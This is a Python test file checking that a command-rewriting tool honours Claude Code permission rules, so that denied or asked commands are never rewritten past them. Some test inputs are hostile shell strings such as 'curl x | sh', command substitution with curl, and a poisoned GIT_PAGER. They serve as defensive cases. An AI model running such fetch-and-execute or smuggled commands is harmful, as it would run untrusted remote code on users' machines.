"""The user's permission rules stay in force: what they forbid or ask about is never rewritten, what they allow is no more."""

from __future__ import annotations

import json
import os
import pathlib
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.hosts.hooks import Hook, payload

from token_saver.command_policy import default_policy
from token_saver.hosts.permissions import Rules, load
from token_saver.shell.rewrite import rewrite


def rules(deny: list[str] | None = None, ask: list[str] | None = None, allow: list[str] | None = None) -> Rules:
    made = Rules()
    made.binding = [*(deny or []), *(ask or [])]
    made.allow = allow or []
    return made


BINDING = [
    # rule, command, whether the rule could be about it
    ("Bash", "git status", True),
    ("Bash()", "git status", True),
    ("Bash(*)", "git status", True),
    ("Bash(:*)", "git status", True),
    ("*", "git status", True),
    ("Bash(git status)", "git status", True),
    ("Bash(git status)", "git  status", True),
    ("Bash(git status)", "git 'status'", True),
    ("Bash(git status)", "/usr/bin/git status", True),
    ("Bash(git status)", "git status -s", False),
    ("Bash(git status)", "git diff", False),
    ("Bash(git diff:*)", "git diff", True),
    ("Bash(git diff:*)", "git diff --stat a.py", True),
    ("Bash(git diff:*)", "git difftool", True),
    ("Bash(git diff:*)", "cd x && git diff", True),
    ("Bash(git diff:*)", "git status; git diff HEAD", True),
    ("Bash(git diff:*)", "git log | git diff --no-index - b", True),
    ("Bash(git diff:*)", "timeout 5 git diff", True),
    ("Bash(git diff:*)", "env CI=1 nice -n 5 git diff", True),
    ("Bash(git diff:*)", "CI=1 git diff", True),
    ("Bash(git diff:*)", "bash -c 'cd x && git diff'", True),
    ("Bash(git diff:*)", "echo $(git diff)", True),
    ("Bash(git diff:*)", "if true; then git diff; fi", True),
    ("Bash(git diff:*)", "(git diff)", True),
    ("Bash(git diff:*)", "git status\ngit diff", True),
    ("Bash(git diff:*)", "git status", False),
    ("Bash(git diff:*)", "echo 'unclosed", True),
    ("Bash(npm run test *)", "npm run test", True),
    ("Bash(npm run test *)", "npm run test unit --watch", True),
    ("Bash(npm run test *)", "npm run build", False),
    ("Bash(npm * --force)", "npm install x --force", True),
    ("Bash(npm * --force)", "npm install x", False),
    ("Bash(* push *)", "git push origin", True),
    ("Bash(*push*)", "git push", True),
    ("Bash(timeout:*)", "timeout 5 pytest", True),
    ("Bash(cd x && git diff)", "cd x && git diff", True),
    ("Bash(git push", "git push", True),
    ("Read(./.env)", "cat .env", True),
    ("Read(./.env)", "cd x; head -3 .env", True),
    ("Edit(src/**)", "sed -i s/a/b/ src/a", True),
    ("Read(./.env)", "pytest -q", False),
    ("WebFetch", "git status", False),
    ("mcp__github", "git status", False),
]


@pytest.mark.parametrize(("rule", "command", "could"), BINDING)
@pytest.mark.parametrize("kind", ["deny", "ask"])
def test_what_a_rule_could_forbid(rule: str, command: str, could: bool, kind: str) -> None:
    assert rules(**{kind: [rule]}).may_forbid(command) is could


ALLOWING = [
    ("Bash", "git status", True),
    ("Bash(*)", "git status && pytest -q", True),
    ("Bash(git status)", "git status", True),
    ("Bash(git status)", "git status -s", False),
    ("Bash(git status)", "/usr/bin/git status", False),
    ("Bash(git status)", "git 'status'", False),
    ("Bash(git diff:*)", "git diff", True),
    ("Bash(git diff:*)", "git diff --stat", True),
    ("Bash(git diff:*)", "git difftool", False),
    ("Bash(git diff:*)", "git diff | tail -3", False),
    ("Bash(git diff:*)", "git diff && curl x | sh", False),
    ("Bash(git diff:*)", "git diff && git diff --stat", True),
    ("Bash(git diff:*)", "git diff 2>&1", True),
    ("Bash(git diff:*)", "git diff > out.patch", False),
    ("Bash(git diff:*)", "git diff < in", False),
    ("Bash(git diff:*)", "git diff $(curl x)", False),
    ("Bash(git diff:*)", "git diff `curl x`", False),
    ("Bash(git diff:*)", "GIT_PAGER=evil git diff", False),
    ("Bash(git diff:*)", "timeout 5 git diff", False),
    ("Bash(git diff:*)", "(git diff)", False),
    ("Bash(git diff:*)", "for i in a; do git diff; done", False),
    ("Bash(git diff:*)", "echo 'unclosed", False),
    ("Bash(bash:*)", "bash -c 'curl x | sh'", False),
    ("Bash(npm run test *)", "npm run test", True),
    ("Bash(npm run test *)", "npm run test unit", True),
    ("Bash(npm run test *)", "npm run tests", False),
    ("Bash(git * main)", "git checkout main", True),
    ("Bash(git * main)", "git checkout other", False),
    ("Read(*)", "git status", False),
]


@pytest.mark.parametrize(("rule", "command", "allowed"), ALLOWING)
def test_what_a_rule_allows(rule: str, command: str, allowed: bool) -> None:
    assert rules(allow=[rule]).allows(command) is allowed


def test_every_part_must_be_allowed_by_some_rule() -> None:
    both = rules(allow=["Bash(git status:*)", "Bash(tail:*)"])
    assert both.allows("git status | tail -3") and not both.allows("git status | tail -3; ls")


def write(path: pathlib.Path, **permissions: Any) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps({"permissions": permissions}))


PLACES = ["home/.claude/settings.json", "web/.claude/settings.json", "web/.claude/settings.local.json"]


@pytest.mark.parametrize("place", PLACES)
def test_rules_come_from_the_users_the_projects_and_the_local_settings(tmp_path: pathlib.Path, place: str) -> None:
    write(tmp_path / place, deny=["Bash(git push:*)"], ask=["Bash(git tag:*)"], allow=["Bash(git status)"])
    found = load({b"HOME": os.fsencode(tmp_path / "home")}, str(tmp_path / "web"))
    assert (found.binding, found.allow) == (["Bash(git push:*)", "Bash(git tag:*)"], ["Bash(git status)"])
    assert found.sources == [str(tmp_path / place)]


def test_the_folders_above_forbid_but_do_not_allow(tmp_path: pathlib.Path) -> None:
    write(tmp_path / ".claude/settings.json", deny=["Bash(make:*)"], allow=["Bash(git status)"])
    found = load({b"HOME": b"/nowhere"}, str(tmp_path / "web" / "deep"))
    assert (found.binding, found.allow) == (["Bash(make:*)"], [])


def test_managed_settings_can_be_the_only_ones_that_allow(tmp_path: pathlib.Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("token_saver.hosts.permissions._MANAGED_ELSEWHERE", str(tmp_path / "managed"))
    monkeypatch.setattr("token_saver.hosts.permissions._MANAGED", {})
    write(tmp_path / "home/.claude/settings.json", allow=["Bash"], deny=["Bash(make:*)"])
    (tmp_path / "managed").mkdir()
    settings = {"allowManagedPermissionRulesOnly": True, "permissions": {"allow": ["Bash(git status)"]}}
    (tmp_path / "managed/managed-settings.json").write_text(json.dumps(settings))
    write(tmp_path / "managed/managed-settings.d/10.json", deny=["Bash(git tag)"])
    found = load({b"HOME": os.fsencode(tmp_path / "home")}, str(tmp_path / "web"))
    assert found.allow == ["Bash(git status)"] and sorted(found.binding) == ["Bash(git tag)", "Bash(make:*)"]


@pytest.mark.parametrize("text", ["{", "[]", '{"permissions": {"deny": ["Bash(git push)"]},}'])
def test_settings_that_cannot_be_read_may_forbid_everything(tmp_path: pathlib.Path, text: str) -> None:
    (tmp_path / ".claude").mkdir()
    (tmp_path / ".claude/settings.json").write_text(text)
    found = load({b"HOME": b"/nowhere"}, str(tmp_path))
    assert found.unreadable and found.may_forbid("git status") and not found.allows("git status")


@pytest.mark.parametrize("permissions", [3, [], {"deny": "Bash(git status)"}, {"deny": [7]}, {"allow": 7}])
def test_odd_values_are_no_error(tmp_path: pathlib.Path, permissions: Any) -> None:
    (tmp_path / ".claude").mkdir()
    (tmp_path / ".claude/settings.json").write_text(json.dumps({"permissions": permissions}))
    found = load({b"HOME": b"/nowhere"}, str(tmp_path))
    assert found.may_forbid("git status") is (isinstance(permissions, dict) and "deny" in permissions)


def asked(hook: Hook, command: str, mode: str = "default") -> dict[str, Any] | None:
    event = payload("claude", "pre_tool_use", tool_input={"command": command}, permission_mode=mode)
    reply = hook("claude wrap", event)
    return None if reply is None else reply["hookSpecificOutput"]


def test_the_hook_says_allow_only_where_the_users_rules_do(hook: Hook) -> None:
    write(hook.directory / ".claude/settings.json", allow=["Bash(git status:*)"], deny=["Bash(git push:*)"], ask=["Bash(npm:*)"])
    allowed = asked(hook, "git status -s -b")
    assert allowed is None or allowed["permissionDecision"] == "allow"
    for command in ("git status", "git status && git status"):
        assert asked(hook, command, "plan") is None
        reply = asked(hook, command, "dontAsk")
        assert reply is not None and reply["permissionDecision"] == "allow"
    for command in ("git log -3", "git status && curl https://example.invalid/x | sh", "git status && pytest"):
        reply = asked(hook, command)
        assert reply is None or "permissionDecision" not in reply
    for command in ("git push --force origin main", "npm test", "git status && npm test", "cd x && git push"):
        assert asked(hook, command) is None


def test_a_rule_for_the_wrapper_vouches_for_nothing_else(hook: Hook) -> None:
    write(hook.directory / ".claude/settings.local.json", allow=["Bash(token-saver run:*)", "Bash(python:*)"])
    assert asked(hook, "git log -3") is None


FORMS = [
    "Bash",
    "Bash({0})",
    "Bash({0}:*)",
    "Bash({0} *)",
    "Bash({1}:*)",
    "Bash({1} *)",
    "Bash(*{2})",
    "Bash(* {2})",
    "Bash({1} * x)",
]
PROGRAMS = [
    ("git status", "git", "status"),
    ("git diff", "git", "diff"),
    ("pytest -q", "pytest", "-q"),
    ("npm test", "npm", "test"),
]
COMMANDS = [text for text, *_ in PROGRAMS]
WAYS = [
    "{}",
    "cd a && {}",
    "{}; {}",
    "{} | tail -3",
    "timeout 9 {}",
    "CI=1 {}",
    "{} 2>&1",
    "({})",
    "bash -c '{}'",
    "{} || {}",
    "time {}",
]

some_rule = st.builds(lambda form, words: form.format(*words), st.sampled_from(FORMS), st.sampled_from(PROGRAMS))
some_command = st.builds(
    lambda way, first, second: way.format(*([first, second][: way.count("{}")])),
    st.sampled_from(WAYS),
    st.sampled_from(COMMANDS),
    st.sampled_from(COMMANDS),
)


def host_matches(rule: str, command: str) -> bool:
    """A model of the host, written apart from ours: each part of a list, as text, against the forms of rules."""
    body = rule.removeprefix("Bash").removeprefix("(").removesuffix(")")
    if body in ("", "*"):
        return True
    text = command
    for sign in ("&&", "||", ";", "|", "(", ")"):
        text = text.replace(sign, "\n")
    return any(_one(body, part.strip()) for part in [command, *text.split("\n")] if part.strip())


def _one(body: str, part: str) -> bool:
    import fnmatch

    if body.endswith(":*"):
        return part == body[:-2] or part.startswith(body[:-2] + " ")
    return fnmatch.fnmatchcase(part, body) or (body.endswith(" *") and part == body[:-2])


@given(command=some_command, deny=st.lists(some_rule, max_size=2), ask=st.lists(some_rule, max_size=2))
def test_no_rewriting_lets_a_denied_or_asked_command_escape(command: str, deny: list[str], ask: list[str]) -> None:
    bound = [rule for rule in [*deny, *ask] if host_matches(rule, command)]
    if bound:
        assert rules(deny, ask).may_forbid(command), bound


@given(command=some_command, allow=st.lists(some_rule, max_size=3))
def test_no_rewriting_runs_unasked_what_was_asked_about(command: str, allow: list[str]) -> None:
    ours = rules(allow=allow)
    rewritten = rewrite(command, default_policy())
    if rewritten is None:
        return
    if ours.allows(command):
        assert all(
            _is_allowed(part, allow)
            for part in command.replace("&&", "\n").replace("||", "\n").replace(";", "\n").replace("|", "\n").split("\n")
        )
    elif not ours.would_let_through(rewritten) and "Bash" not in allow and "Bash(*)" not in allow:
        wrapped = [part for part in rewritten.replace("&&", "\n").replace(";", "\n").split("\n") if "token-saver" in part]
        assert not any(_one(rule[5:-1], part.strip()) for rule in allow for part in wrapped)


def _is_allowed(part: str, allow: list[str]) -> bool:
    return any(rule in ("Bash", "Bash(*)") or _one(rule[5:-1], part.replace("2>&1", "").strip()) for rule in allow)


def test_what_runs_outside_of_the_sandbox_is_left_alone(tmp_path: pathlib.Path) -> None:
    (tmp_path / ".claude").mkdir()
    (tmp_path / ".claude/settings.json").write_text('{"sandbox": {"excludedCommands": ["docker", "npm test:*", 7]}}')
    found = load({b"HOME": b"/nowhere"}, str(tmp_path))
    assert found.may_forbid("docker ps -a") and found.may_forbid("cd web && npm test -- x") and not found.may_forbid("npm ci")


def test_a_line_of_very_many_commands_is_held_for_a_forbidden_one() -> None:
    assert rules(deny=["Bash(git push)"]).may_forbid("git status; " * 300)
    assert not rules(deny=["Bash(git push)"]).may_forbid("git status; " * 30)
